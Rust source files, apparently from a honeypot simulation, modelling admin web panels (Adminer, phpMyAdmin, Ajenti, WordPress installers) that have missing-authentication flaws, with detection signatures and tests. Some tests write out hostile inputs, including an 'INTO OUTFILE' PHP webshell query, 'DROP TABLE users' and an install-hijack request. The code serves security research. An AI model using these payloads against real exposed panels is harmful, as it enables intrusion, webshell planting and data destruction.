        // Filler so assets are not trivially tiny.
        "0123456789abcdef".repeat(16)
    ))
}

/// Hash of one asset of `app` at `version`.
pub fn asset_hash(app: AppId, version: &Version, path: &str) -> Option<u64> {
    asset_content(app, version, path).map(|c| fnv1a(c.as_bytes()))
}

/// The full `(path, hash)` fingerprint of `app` at `version`.
pub fn fingerprint(app: AppId, version: &Version) -> Vec<(&'static str, u64)> {
    ASSET_PATHS
        .iter()
        .map(|p| (*p, asset_hash(app, version, p).expect("known path")))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fnv_matches_known_vectors() {
        // Standard FNV-1a test vectors.
        assert_eq!(fnv1a(b""), 0xcbf2_9ce4_8422_2325);
        assert_eq!(fnv1a(b"a"), 0xaf63_dc4c_8601_ec8c);
        assert_eq!(fnv1a(b"foobar"), 0x85944171f73967e8);
    }

    #[test]
    fn assets_are_deterministic() {
        let v = release_history(AppId::Hadoop)[3];
        assert_eq!(
            asset_content(AppId::Hadoop, &v, "/static/app.js"),
            asset_content(AppId::Hadoop, &v, "/static/app.js"),
        );
    }

    #[test]
    fn different_apps_have_different_assets() {
        let vh = release_history(AppId::Hadoop)[0];
        let vn = release_history(AppId::Nomad)[0];
        assert_ne!(
            asset_hash(AppId::Hadoop, &vh, "/static/app.js"),
            asset_hash(AppId::Nomad, &vn, "/static/app.js"),
        );
    }

    #[test]
    fn fast_churn_asset_distinguishes_adjacent_versions() {
        let h = release_history(AppId::Kubernetes);
        // Slot 0 churns every release.
        assert_ne!(
            asset_hash(AppId::Kubernetes, &h[0], "/static/app.js"),
            asset_hash(AppId::Kubernetes, &h[1], "/static/app.js"),
        );
        // Slot 3 churns every 8 releases, so adjacent versions share it.
        assert_eq!(
            asset_hash(AppId::Kubernetes, &h[0], "/static/logo.svg"),
            asset_hash(AppId::Kubernetes, &h[1], "/static/logo.svg"),
        );
    }

    #[test]
    fn unknown_path_yields_none() {
        let v = release_history(AppId::Grav)[0];
        assert_eq!(asset_content(AppId::Grav, &v, "/static/nope.js"), None);
    }

    #[test]
    fn fingerprint_covers_all_paths() {
        let v = *release_history(AppId::Consul).last().unwrap();
        let fp = fingerprint(AppId::Consul, &v);
        assert_eq!(fp.len(), ASSET_PATHS.len());
    }
}
