//! The [`WebApp`] trait implemented by every application model.

use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::HandleOutcome;
use crate::version::Version;
use nokeys_http::Request;
use std::net::Ipv4Addr;

/// A modeled administrative web endpoint.
///
/// Handlers are synchronous state machines; the simulated transport and
/// the real TCP server both drive them. `handle` takes `&mut self` because
/// attacks change state (installations get hijacked, containers start,
/// admin sessions appear).
pub trait WebApp: Send {
    /// Which of the 25 applications this is.
    fn id(&self) -> AppId;

    /// Deployed version.
    fn version(&self) -> Version;

    /// Current configuration.
    fn config(&self) -> AppConfig;

    /// Ground truth: does this instance carry a missing-authentication
    /// vulnerability *right now*? (CMS installs completed by an attacker
    /// stop being vulnerable, for example.)
    fn is_vulnerable(&self) -> bool {
        self.config().is_vulnerable(self.id(), &self.version())
    }

    /// Handle one HTTP request from `peer`.
    fn handle(&mut self, req: &Request, peer: Ipv4Addr) -> HandleOutcome;

    /// Restore the instance to its deployment state (the honeypot's
    /// snapshot-restore after a compromise).
    fn restore(&mut self);
}

/// Transport-less test client: drives a [`WebApp`] state machine
/// directly, issuing every request from a fixed peer address.
///
/// Application models key behavior on the peer (trust-on-first-use
/// installers, per-peer admin sessions), so tests that need several
/// actors build one `Driver` per actor via [`Driver::from_peer`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Driver {
    peer: Ipv4Addr,
}

impl Driver {
    /// Default peer address (TEST-NET-2, reserved for documentation).
    pub const DEFAULT_PEER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 1);

    /// A driver issuing requests from [`Driver::DEFAULT_PEER`].
    pub const fn new() -> Self {
        Driver {
            peer: Self::DEFAULT_PEER,
        }
    }

    /// A driver issuing requests from `peer`.
    pub const fn from_peer(peer: Ipv4Addr) -> Self {
        Driver { peer }
    }

    /// The peer address this driver presents to the application.
    pub const fn peer(&self) -> Ipv4Addr {
        self.peer
    }

    /// Drive a `GET` against an app and return the outcome.
    pub fn get(&self, app: &mut dyn WebApp, target: &str) -> HandleOutcome {
        app.handle(&Request::get(target), self.peer)
    }

    /// Drive a `POST` against an app and return the outcome.
    pub fn post(&self, app: &mut dyn WebApp, target: &str, body: &str) -> HandleOutcome {
        app.handle(&Request::post(target, body.as_bytes().to_vec()), self.peer)
    }

    /// Drive an arbitrary request against an app.
    pub fn request(&self, app: &mut dyn WebApp, req: &Request) -> HandleOutcome {
        app.handle(req, self.peer)
    }
}

impl Default for Driver {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalog::AppId;
    use crate::instance::build_instance;
    use crate::version::release_history;

    fn fresh_wordpress() -> Box<dyn WebApp> {
        let app = AppId::WordPress;
        let v = *release_history(app).last().unwrap();
        build_instance(app, v, AppConfig::vulnerable_for(app, &v))
    }

    /// The peer is configurable and actually reaches the application:
    /// WordPress trusts whichever peer completes the install first.
    #[test]
    fn driver_presents_its_peer() {
        let attacker = Driver::from_peer(Ipv4Addr::new(203, 0, 113, 9));
        assert_eq!(attacker.peer(), Ipv4Addr::new(203, 0, 113, 9));
        assert_ne!(attacker, Driver::new());
        let mut inst = fresh_wordpress();
        assert!(inst.is_vulnerable());
        let _ = attacker.post(
            inst.as_mut(),
            "/wp-admin/install.php?step=2",
            "user_name=evil&admin_password=x",
        );
        assert!(
            !inst.is_vulnerable(),
            "the attacker's peer completed the install"
        );
    }

    /// `Driver::new` and `Driver::default` are interchangeable and both
    /// issue requests from the historical default peer (what the removed
    /// free `get`/`post` helpers used to pin).
    #[test]
    fn new_and_default_drivers_agree() {
        let mut via_new = fresh_wordpress();
        let mut via_default = fresh_wordpress();
        let a = Driver::new().get(via_new.as_mut(), "/wp-admin/install.php?step=1");
        let b = Driver::default().get(via_default.as_mut(), "/wp-admin/install.php?step=1");
        assert_eq!(a.response.body_text(), b.response.body_text());
        assert_eq!(Driver::new().peer(), Driver::DEFAULT_PEER);
        assert_eq!(Driver::default().peer(), Driver::DEFAULT_PEER);
    }
}
