//! The [`WebApp`] trait implemented by every application model.

use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::HandleOutcome;
use crate::version::Version;
use nokeys_http::Request;
use std::net::Ipv4Addr;

/// A modeled administrative web endpoint.
///
/// Handlers are synchronous state machines; the simulated transport and
/// the real TCP server both drive them. `handle` takes `&mut self` because
/// attacks change state (installations get hijacked, containers start,
/// admin sessions appear).
pub trait WebApp: Send {
    /// Which of the 25 applications this is.
    fn id(&self) -> AppId;

    /// Deployed version.
    fn version(&self) -> Version;

    /// Current configuration.
    fn config(&self) -> AppConfig;

    /// Ground truth: does this instance carry a missing-authentication
    /// vulnerability *right now*? (CMS installs completed by an attacker
    /// stop being vulnerable, for example.)
    fn is_vulnerable(&self) -> bool {
        self.config().is_vulnerable(self.id(), &self.version())
    }

    /// Handle one HTTP request from `peer`.
    fn handle(&mut self, req: &Request, peer: Ipv4Addr) -> HandleOutcome;

    /// Restore the instance to its deployment state (the honeypot's
    /// snapshot-restore after a compromise).
    fn restore(&mut self);
}

/// Convenience: drive a `GET` against an app and return the outcome.
pub fn get(app: &mut dyn WebApp, target: &str) -> HandleOutcome {
    app.handle(&Request::get(target), Ipv4Addr::new(198, 51, 100, 1))
}

/// Convenience: drive a `POST` against an app and return the outcome.
pub fn post(app: &mut dyn WebApp, target: &str, body: &str) -> HandleOutcome {
    app.handle(
        &Request::post(target, body.as_bytes().to_vec()),
        Ipv4Addr::new(198, 51, 100, 1),
    )
}
