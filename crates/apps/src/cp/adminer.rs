//! Adminer model.
//!
//! * A single-file PHP database client. Before 4.6.3 (mid 2018) it would
//!   log into database accounts with empty passwords; newer versions
//!   refuse empty passwords outright.
//! * Detection: `GET /adminer.php?username=root` (or
//!   `/adminer/adminer.php?...`) contains 'through PHP extension' and
//!   'Logged as' — the post-login banner.

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response, StatusCode};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Adminer {
    pub(crate) base: BaseApp,
}

impl Adminer {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Adminer {
            base: BaseApp::new(AppId::Adminer, version, config),
        }
    }

    /// Empty-password logins succeed only on old versions *and* when the
    /// database actually has a passwordless account.
    fn open(&self) -> bool {
        self.base.config.allow_no_password && self.base.version.triple() < (4, 6, 3)
    }

    fn logged_in_page(&self) -> Response {
        Response::html(html::page_with_head(
            &format!("root@localhost - Adminer {}", self.base.version.number()),
            &html::css("/adminer.css"),
            "<div id=\"menu\"><p>MySQL 5.7.33 through PHP extension <b>mysqli</b></p>\
             <p>Logged as: <b>root@localhost</b></p>\
             <a href=\"https://www.adminer.org\">Adminer</a></div>\
             <form action=\"?sql=\" method=\"post\"><textarea name=\"query\"></textarea></form>",
        ))
    }

    fn login_page(&self, error: bool) -> Response {
        let err = if error {
            "<p class=\"error\">Authentication failed: Access denied.</p>"
        } else {
            ""
        };
        Response::html(html::page_with_head(
            &format!("Login - Adminer {}", self.base.version.number()),
            &html::css("/adminer.css"),
            &format!(
                "{err}<form action=\"/adminer.php\" method=\"post\">\
                 <input name=\"auth[driver]\" value=\"server\">\
                 <input name=\"auth[username]\"><input type=\"password\" name=\"auth[password]\">\
                 <input type=\"submit\" value=\"Login\"></form>\
                 <a href=\"https://www.adminer.org\">Adminer</a>"
            ),
        ))
    }

    fn is_adminer_path(path: &str) -> bool {
        path == "/adminer.php" || path == "/adminer/adminer.php"
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, p) if Self::is_adminer_path(p) => {
                // `?username=root` attempts a passwordless login.
                if req.query_param("username").is_some() {
                    if self.open() {
                        self.logged_in_page().into()
                    } else {
                        self.login_page(true).into()
                    }
                } else {
                    self.login_page(false).into()
                }
            }
            (nokeys_http::Method::Get, "/") => Response::redirect("/adminer.php").into(),
            (nokeys_http::Method::Post, p) if Self::is_adminer_path(p) => {
                if self.open() {
                    let sql = req
                        .body_text()
                        .split('&')
                        .find_map(|kv| kv.strip_prefix("query=").map(str::to_string))
                        .unwrap_or_else(|| req.body_text());
                    HandleOutcome::with_event(
                        Response::html(html::page("Query", "<table></table>")),
                        AppEvent::SqlExecuted { query: sql },
                    )
                } else {
                    Response::new(StatusCode::FORBIDDEN)
                        .with_body(
                            "Adminer does not support accessing a database without a password",
                        )
                        .into()
                }
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {}
}

impl_webapp!(Adminer);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn at(triple: (u16, u16, u16), allow: bool) -> Adminer {
        let v = *release_history(AppId::Adminer)
            .iter()
            .find(|v| v.triple() == triple)
            .unwrap();
        let mut cfg = AppConfig::default_for(AppId::Adminer, &v);
        cfg.allow_no_password = allow;
        Adminer::new(v, cfg)
    }

    #[test]
    fn old_adminer_with_empty_password_account_logs_in() {
        let mut app = at((4, 3, 0), true);
        assert!(app.is_vulnerable());
        let body = DRIVER
            .get(&mut app, "/adminer.php?username=root")
            .response
            .body_text();
        assert!(body.contains("through PHP extension"));
        assert!(body.contains("Logged as"));
    }

    #[test]
    fn new_adminer_rejects_empty_password() {
        let mut app = at((4, 8, 0), true);
        assert!(!app.is_vulnerable(), "4.6.3+ rejects empty passwords");
        let body = DRIVER
            .get(&mut app, "/adminer.php?username=root")
            .response
            .body_text();
        assert!(!body.contains("Logged as"));
        assert!(body.contains("Authentication failed"));
    }

    #[test]
    fn old_adminer_without_passwordless_account_is_safe() {
        let mut app = at((4, 3, 0), false);
        assert!(!app.is_vulnerable());
        let body = DRIVER
            .get(&mut app, "/adminer.php?username=root")
            .response
            .body_text();
        assert!(!body.contains("Logged as"));
    }

    #[test]
    fn alternate_path_works() {
        let mut app = at((4, 3, 0), true);
        let body = DRIVER
            .get(&mut app, "/adminer/adminer.php?username=root")
            .response
            .body_text();
        assert!(body.contains("Logged as"));
    }

    #[test]
    fn sql_execution_when_open() {
        let mut app = at((4, 3, 0), true);
        let out = DRIVER.post(&mut app, "/adminer.php", "query=DROP TABLE users");
        assert!(matches!(
            &out.events[0],
            AppEvent::SqlExecuted { query } if query.contains("DROP TABLE")
        ));
        let mut app = at((4, 8, 0), true);
        let out = DRIVER.post(&mut app, "/adminer.php", "query=SELECT 1");
        assert!(out.events.is_empty());
    }
}
