//! Control panels: Ajenti, phpMyAdmin, Adminer (in scope); VestaCP and
//! OmniDB (out of scope, modeled by [`crate::generic::LoginWalled`]).

pub mod adminer;
pub mod ajenti;
pub mod phpmyadmin;

pub use adminer::Adminer;
pub use ajenti::Ajenti;
pub use phpmyadmin::PhpMyAdmin;
