//! phpMyAdmin model.
//!
//! * Requires SQL credentials; `AllowNoPassword` (off by default) lets
//!   the `root` account with an empty password in.
//! * Detection: `GET /` (or `/phpmyadmin`) contains 'Server connection
//!   collation' and 'phpMyAdmin documentation' — strings only present on
//!   the authenticated main page, which an empty-password auto-session
//!   reaches without credentials. The login page shows neither.
//! * Abuse surface: SQL execution (which on MySQL can be escalated, e.g.
//!   `INTO OUTFILE` webshells).

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response, StatusCode};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct PhpMyAdmin {
    pub(crate) base: BaseApp,
}

impl PhpMyAdmin {
    pub fn new(version: Version, config: AppConfig) -> Self {
        PhpMyAdmin {
            base: BaseApp::new(AppId::PhpMyAdmin, version, config),
        }
    }

    fn open(&self) -> bool {
        self.base.config.allow_no_password
    }

    fn main_page(&self) -> Response {
        Response::html(html::page_with_head(
            &format!(
                "localhost / localhost | phpMyAdmin {}",
                self.base.version.number()
            ),
            &html::css("/themes/pmahomme/css/phpmyadmin.css.php"),
            "<div id=\"pma_navigation\">\
             <form id=\"collation\"><label>Server connection collation</label>\
             <select name=\"collation_connection\"></select></form>\
             <a href=\"/doc/html/index.html\">phpMyAdmin documentation</a>\
             <script>var PMA_commonParams = {};</script></div>",
        ))
    }

    fn login_page(&self) -> Response {
        Response::html(html::page_with_head(
            "phpMyAdmin",
            &html::css("/themes/pmahomme/css/phpmyadmin.css.php"),
            "<form method=\"post\" action=\"index.php\" name=\"login_form\" class=\"pma_login\">\
             <input type=\"text\" name=\"pma_username\">\
             <input type=\"password\" name=\"pma_password\">\
             <input type=\"submit\" value=\"Go\"></form>\
             <script>var PMA_commonParams = {};</script>",
        ))
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/")
            | (nokeys_http::Method::Get, "/phpmyadmin")
            | (nokeys_http::Method::Get, "/index.php") => {
                if self.open() {
                    self.main_page().into()
                } else {
                    self.login_page().into()
                }
            }
            (nokeys_http::Method::Post, "/import.php") => {
                if self.open() {
                    let sql = req
                        .body_text()
                        .split('&')
                        .find_map(|kv| kv.strip_prefix("sql_query=").map(str::to_string))
                        .unwrap_or_else(|| req.body_text());
                    HandleOutcome::with_event(
                        Response::html(html::page("Query results", "<table></table>")),
                        AppEvent::SqlExecuted { query: sql },
                    )
                } else {
                    Response::new(StatusCode::UNAUTHORIZED)
                        .with_body("Access denied for user 'root'@'localhost'")
                        .into()
                }
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {}
}

impl_webapp!(PhpMyAdmin);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn with_allow_no_password(on: bool) -> PhpMyAdmin {
        let v = *release_history(AppId::PhpMyAdmin).last().unwrap();
        let cfg = if on {
            AppConfig::vulnerable_for(AppId::PhpMyAdmin, &v)
        } else {
            AppConfig::default_for(AppId::PhpMyAdmin, &v)
        };
        PhpMyAdmin::new(v, cfg)
    }

    #[test]
    fn default_shows_login_without_markers() {
        let mut app = with_allow_no_password(false);
        assert!(!app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/").response.body_text();
        assert!(body.contains("phpMyAdmin"));
        assert!(!body.contains("Server connection collation"));
        assert!(!body.contains("phpMyAdmin documentation"));
    }

    #[test]
    fn allow_no_password_reaches_main_page() {
        let mut app = with_allow_no_password(true);
        assert!(app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/").response.body_text();
        assert!(body.contains("Server connection collation"));
        assert!(body.contains("phpMyAdmin documentation"));
    }

    #[test]
    fn works_on_the_phpmyadmin_alias_path() {
        let mut app = with_allow_no_password(true);
        let body = DRIVER.get(&mut app, "/phpmyadmin").response.body_text();
        assert!(body.contains("Server connection collation"));
    }

    #[test]
    fn sql_execution_requires_the_misconfiguration() {
        let mut app = with_allow_no_password(false);
        let out = DRIVER.post(&mut app, "/import.php", "sql_query=SELECT 1");
        assert_eq!(out.response.status.as_u16(), 401);
        assert!(out.events.is_empty());

        let mut app = with_allow_no_password(true);
        let out = DRIVER.post(
            &mut app,
            "/import.php",
            "sql_query=SELECT '<?php' INTO OUTFILE '/var/www/x.php'",
        );
        assert!(matches!(
            &out.events[0],
            AppEvent::SqlExecuted { query } if query.contains("OUTFILE")
        ));
    }
}
