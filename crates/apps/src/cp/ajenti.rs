//! Ajenti model.
//!
//! * Requires OS credentials by default; the `--autologin` option (whose
//!   docs warn "this is a security issue if your system is public") skips
//!   authentication entirely.
//! * Detection: `GET /view/` contains
//!   `customization.plugins.core.title || 'Ajenti'` and
//!   `ajentiPlatformUnmapped`.
//! * Abuse surface: the built-in terminal executes commands as root.

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response, StatusCode};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Ajenti {
    pub(crate) base: BaseApp,
}

impl Ajenti {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Ajenti {
            base: BaseApp::new(AppId::Ajenti, version, config),
        }
    }

    fn app_shell(&self) -> Response {
        Response::html(html::page_with_head(
            "Ajenti",
            &html::css("/resources/all.css"),
            "<script>angular.module('ajenti.core', []);\
             var title = customization.plugins.core.title || 'Ajenti';\
             var platform = ajentiPlatformUnmapped;</script>\
             <div id=\"app\">Ajenti control panel</div>",
        ))
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        let open = self.base.config.autologin;
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => {
                if open {
                    Response::redirect("/view/").into()
                } else {
                    Response::html(html::login_form("Ajenti", "/api/core/auth")).into()
                }
            }
            (nokeys_http::Method::Get, "/view/") => {
                if open {
                    self.app_shell().into()
                } else {
                    Response::redirect("/").into()
                }
            }
            (nokeys_http::Method::Post, "/api/terminal/exec") => {
                if open {
                    HandleOutcome::with_event(
                        Response::json("{\"output\":\"\"}"),
                        AppEvent::CommandExecuted {
                            command: req.body_text(),
                        },
                    )
                } else {
                    Response::new(StatusCode::UNAUTHORIZED).into()
                }
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {}
}

impl_webapp!(Ajenti);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn with_autologin(on: bool) -> Ajenti {
        let v = *release_history(AppId::Ajenti).last().unwrap();
        let cfg = if on {
            AppConfig::vulnerable_for(AppId::Ajenti, &v)
        } else {
            AppConfig::default_for(AppId::Ajenti, &v)
        };
        Ajenti::new(v, cfg)
    }

    #[test]
    fn secure_by_default_shows_login() {
        let mut app = with_autologin(false);
        assert!(!app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/").response.body_text();
        assert!(body.contains("Sign in - Ajenti"));
        let out = DRIVER.get(&mut app, "/view/");
        assert!(out.response.is_followable_redirect());
    }

    #[test]
    fn autologin_exposes_the_shell_markers() {
        let mut app = with_autologin(true);
        assert!(app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/view/").response.body_text();
        assert!(body.contains("customization.plugins.core.title || 'Ajenti'"));
        assert!(body.contains("ajentiPlatformUnmapped"));
    }

    #[test]
    fn terminal_needs_autologin() {
        let mut app = with_autologin(false);
        let out = DRIVER.post(&mut app, "/api/terminal/exec", "id");
        assert_eq!(out.response.status.as_u16(), 401);
        assert!(out.events.is_empty());

        let mut app = with_autologin(true);
        let out = DRIVER.post(&mut app, "/api/terminal/exec", "id");
        assert!(matches!(&out.events[0], AppEvent::CommandExecuted { .. }));
    }
}
