//! Events emitted by application models while handling requests.
//!
//! The honeypot's audit monitor (the analog of the paper's Auditbeat
//! deployment) records these events together with the source IP and the
//! virtual timestamp. "Attack" in the paper is defined as the *successful
//! execution of a system command through the exposed sensitive
//! functionality*; [`AppEvent::as_execution`] encodes that definition.

use nokeys_http::Response;
use serde::{Deserialize, Serialize};

/// A security-relevant state transition inside an application model.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum AppEvent {
    /// A system command was executed (terminal, build step, script check,
    /// template code, ...).
    CommandExecuted { command: String },
    /// An SQL statement was executed against the backing database.
    SqlExecuted { query: String },
    /// A container/pod was started with the given command — code execution
    /// on cluster managers.
    ContainerStarted { image: String, command: String },
    /// A job carrying an arbitrary payload was submitted to a scheduler.
    JobSubmitted { payload: String },
    /// An unfinished installation was completed, creating admin
    /// credentials chosen by the requester (trust-on-first-use hijack).
    InstallCompleted { admin_user: String },
    /// An interactive terminal session was opened.
    TerminalOpened,
    /// The application was asked to shut down (the "vigilante" behaviour
    /// observed on Jupyter Lab).
    ShutdownRequested,
}

impl AppEvent {
    /// If this event constitutes code execution in the paper's sense,
    /// return the executed payload.
    pub fn as_execution(&self) -> Option<&str> {
        match self {
            AppEvent::CommandExecuted { command } => Some(command),
            AppEvent::ContainerStarted { command, .. } => Some(command),
            AppEvent::JobSubmitted { payload } => Some(payload),
            AppEvent::SqlExecuted { query } => Some(query),
            _ => None,
        }
    }

    /// Whether this event marks the instance as compromised.
    pub fn is_compromise(&self) -> bool {
        self.as_execution().is_some() || matches!(self, AppEvent::InstallCompleted { .. })
    }
}

/// Result of handling one request: the HTTP response plus any events.
#[derive(Debug, Clone)]
pub struct HandleOutcome {
    pub response: Response,
    pub events: Vec<AppEvent>,
}

impl HandleOutcome {
    /// A response with no events.
    pub fn plain(response: Response) -> Self {
        HandleOutcome {
            response,
            events: Vec::new(),
        }
    }

    /// A response with one event.
    pub fn with_event(response: Response, event: AppEvent) -> Self {
        HandleOutcome {
            response,
            events: vec![event],
        }
    }
}

impl From<Response> for HandleOutcome {
    fn from(response: Response) -> Self {
        HandleOutcome::plain(response)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn execution_classification() {
        assert_eq!(
            AppEvent::CommandExecuted {
                command: "id".into()
            }
            .as_execution(),
            Some("id")
        );
        assert_eq!(
            AppEvent::ContainerStarted {
                image: "alpine".into(),
                command: "sh".into()
            }
            .as_execution(),
            Some("sh")
        );
        assert_eq!(AppEvent::TerminalOpened.as_execution(), None);
        assert_eq!(AppEvent::ShutdownRequested.as_execution(), None);
    }

    #[test]
    fn install_is_compromise_but_not_execution() {
        let e = AppEvent::InstallCompleted {
            admin_user: "evil".into(),
        };
        assert!(e.is_compromise());
        assert!(e.as_execution().is_none());
    }

    #[test]
    fn outcome_constructors() {
        let o = HandleOutcome::plain(Response::text("x"));
        assert!(o.events.is_empty());
        let o = HandleOutcome::with_event(Response::text("x"), AppEvent::TerminalOpened);
        assert_eq!(o.events.len(), 1);
    }
}
