//! Small HTML helpers shared by the application models.

/// Wrap `body` in a minimal, valid HTML5 document with `title`.
///
/// Several detection plugins check that a response "is valid HTML"; the
/// scanner side implements that check as "contains an `<html` and a
/// matching `</html>` tag", which these pages satisfy.
pub fn page(title: &str, body: &str) -> String {
    format!(
        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n\
         <title>{title}</title>\n</head>\n<body>\n{body}\n</body>\n</html>\n"
    )
}

/// A page with extra elements in `<head>` (generator metas, stylesheet
/// links — the prefilter signatures often live there).
pub fn page_with_head(title: &str, head_extra: &str, body: &str) -> String {
    format!(
        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n\
         <title>{title}</title>\n{head_extra}\n</head>\n<body>\n{body}\n</body>\n</html>\n"
    )
}

/// A `<link rel="stylesheet">` tag.
pub fn css(href: &str) -> String {
    format!("<link rel=\"stylesheet\" href=\"{href}\">")
}

/// A `<script src>` tag.
pub fn script(src: &str) -> String {
    format!("<script src=\"{src}\"></script>")
}

/// A generator `<meta>` tag as emitted by CMSes.
pub fn generator(content: &str) -> String {
    format!("<meta name=\"generator\" content=\"{content}\">")
}

/// A simple login form; products behind authentication serve this.
pub fn login_form(product: &str, action: &str) -> String {
    page(
        &format!("Sign in - {product}"),
        &format!(
            "<form method=\"post\" action=\"{action}\" id=\"login\">\
             <input type=\"text\" name=\"username\">\
             <input type=\"password\" name=\"password\">\
             <button type=\"submit\">Sign in</button></form>"
        ),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn page_is_minimal_valid_html() {
        let p = page("T", "<p>x</p>");
        assert!(p.contains("<html"));
        assert!(p.contains("</html>"));
        assert!(p.contains("<title>T</title>"));
        assert!(p.contains("<p>x</p>"));
    }

    #[test]
    fn head_extra_lands_in_head() {
        let p = page_with_head("T", &generator("WordPress 5.7"), "b");
        let head_end = p.find("</head>").unwrap();
        let meta_pos = p.find("generator").unwrap();
        assert!(meta_pos < head_end);
    }

    #[test]
    fn login_form_mentions_product() {
        let p = login_form("GoCD", "/go/auth/security_check");
        assert!(p.contains("Sign in - GoCD"));
        assert!(p.contains("id=\"login\""));
    }
}
