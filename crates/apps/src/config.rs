//! Per-instance configuration and the vulnerability ground truth.
//!
//! Section 2 of the paper distinguishes applications that are insecure by
//! default, applications that changed their defaults over time, and
//! applications that are secure by default but easy to misconfigure. This
//! module captures the concrete switches behind those postures.

use crate::catalog::AppId;
use crate::version::{insecure_by_default, Version};
use serde::{Deserialize, Serialize};

/// Instance configuration. Not every field is meaningful for every
/// application; [`AppConfig::default_for`] produces factory settings and
/// the per-app `is_vulnerable` logic consults only its own switches.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct AppConfig {
    /// Generic authentication switch: admin password, ACLs, Kerberos,
    /// token auth — whatever the product's primary mechanism is.
    pub auth_enabled: bool,
    /// CMS installation completed (admin credentials exist).
    pub installed: bool,
    /// Consul: `enable_script_checks` / `enable_remote_script_checks`.
    pub script_checks: bool,
    /// phpMyAdmin `AllowNoPassword` / a database account with an empty
    /// password reachable through Adminer.
    pub allow_no_password: bool,
    /// Ajenti `--autologin`.
    pub autologin: bool,
}

impl AppConfig {
    /// Factory-default configuration of `app` at `version`.
    ///
    /// "Default" means what a fresh deployment exposes: e.g. GoCD ships
    /// without authentication, Jenkins ≥ 2.0 generates an admin password,
    /// Consul ships with script checks disabled.
    pub fn default_for(app: AppId, version: &Version) -> AppConfig {
        let insecure = insecure_by_default(app, version);
        match app {
            // CMSes: the *pre-installation* state is the vulnerable one;
            // a freshly extracted CMS is not yet installed.
            AppId::WordPress | AppId::Grav | AppId::Joomla | AppId::Drupal => AppConfig {
                auth_enabled: true,
                installed: false,
                ..AppConfig::SECURE_BASE
            },
            AppId::Consul => AppConfig {
                script_checks: false,
                ..AppConfig::SECURE_BASE
            },
            AppId::PhpMyAdmin => AppConfig {
                allow_no_password: false,
                ..AppConfig::SECURE_BASE
            },
            AppId::Adminer => AppConfig {
                // Before 4.6.3 an empty-password login was accepted.
                allow_no_password: insecure,
                ..AppConfig::SECURE_BASE
            },
            AppId::Ajenti => AppConfig {
                autologin: false,
                ..AppConfig::SECURE_BASE
            },
            _ => AppConfig {
                auth_enabled: !insecure,
                ..AppConfig::SECURE_BASE
            },
        }
    }

    /// A configuration that makes `app` at `version` carry a MAV — the
    /// honeypot setup ("we either left the applications in an
    /// insecure-by-default state, or enabled insecure settings").
    pub fn vulnerable_for(app: AppId, version: &Version) -> AppConfig {
        let mut cfg = AppConfig::default_for(app, version);
        match app {
            AppId::WordPress | AppId::Grav | AppId::Joomla | AppId::Drupal => {
                cfg.installed = false;
            }
            AppId::Consul => cfg.script_checks = true,
            AppId::PhpMyAdmin | AppId::Adminer => cfg.allow_no_password = true,
            AppId::Ajenti => cfg.autologin = true,
            _ => cfg.auth_enabled = false,
        }
        cfg
    }

    /// A configuration with no MAV (completed installation, auth on,
    /// dangerous switches off).
    pub fn secure_for(_app: AppId, _version: &Version) -> AppConfig {
        AppConfig {
            installed: true,
            ..AppConfig::SECURE_BASE
        }
    }

    /// Whether `app` at `version` with this configuration carries a MAV.
    ///
    /// This is the simulation's ground truth, against which the detection
    /// plugins' verdicts can be scored.
    pub fn is_vulnerable(&self, app: AppId, version: &Version) -> bool {
        match app {
            AppId::Jenkins
            | AppId::Gocd
            | AppId::Hadoop
            | AppId::Nomad
            | AppId::Zeppelin
            | AppId::JupyterLab
